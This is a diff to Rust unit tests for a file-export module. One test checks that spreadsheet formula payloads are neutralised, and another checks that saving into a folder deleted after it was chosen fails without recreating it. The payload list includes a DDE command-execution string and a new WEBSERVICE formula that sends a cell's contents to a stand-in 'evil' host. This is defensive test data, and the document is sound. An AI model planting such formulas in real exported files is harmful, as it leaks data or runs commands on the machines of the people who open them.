@@ -343,7 +343,16 @@ mod tests {
 
     #[test]
     fn spreadsheet_formulas_are_neutralised() {
-        for payload in ["=HYPERLINK(\"http://evil\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=cmd|' /C calc'!A0"] {
+        for payload in [
+            "=HYPERLINK(\"http://evil\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "=cmd|' /C calc'!A0",
+            "=WEBSERVICE(\"http://evil/?\"&A1)",
+        ] {
             assert!(neutralise(payload).starts_with('\''), "{payload:?}");
         }
         assert_eq!(neutralise("Jinhua"), "Jinhua");
@@ -382,6 +391,19 @@ mod tests {
         assert!(err.starts_with(&format!("could not write {}", path.display())), "{err}");
         assert_eq!(std::fs::read(&path).unwrap(), b"old");
         assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "no temporary file left behind");
+    }
+
+    #[test]
+    fn exporting_into_a_folder_deleted_after_it_was_chosen_says_so_and_creates_nothing() {
+        let dir = tempfile::tempdir().unwrap();
+        let chosen = dir.path().join("reports");
+        std::fs::create_dir(&chosen).unwrap();
+        let path = chosen.join("chart.png");
+        std::fs::remove_dir(&chosen).unwrap();
+        let err = save(&path, b"new").unwrap_err().to_string();
+        assert!(err.starts_with(&format!("could not write {}", path.display())), "{err}");
+        assert!(err.contains("No such file or directory"), "{err}");
+        assert!(!chosen.exists(), "the folder must not be recreated behind the person's back");
     }
 
     /// Makes a folder read-only for this process, also as root (CI runs as root, and root
